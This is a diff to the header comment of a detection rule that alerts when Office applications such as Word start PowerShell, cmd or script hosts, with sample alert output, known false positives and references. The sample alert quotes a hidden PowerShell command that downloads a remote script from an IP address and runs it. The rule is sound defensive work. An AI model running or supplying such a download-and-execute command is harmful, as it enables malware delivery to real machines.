@@ -3,7 +3,7 @@
 // A document that is opened has no need of cmd, PowerShell, script hosts or the programs of Windows that fetch and run what somebody else wrote.
 //
 //     > ringside run office-shell.js -o line
-//     time=2026-05-05T08:12:40.223000000Z level=high rule=office-shell message="CORP\\ada: winword.exe started powershell.exe: powershell.exe -nop -w hidden -c iwr http://198.51.100.23/a.ps1|iex"
+//     time=2026-05-05T08:12:40.150000000Z level=high rule=office-shell message="CORP\\ada: WINWORD.EXE started powershell.exe: powershell.exe -nop -w hidden -c iwr http://198.51.100.23/a.ps1|iex"
 //
 // Known false positives: add-ins that start helpers through cmd, add their command lines to `addIns`; Outlook opening a link with rundll32 is left out.
 // References: https://attack.mitre.org/techniques/T1204/002/ https://lolbas-project.github.io
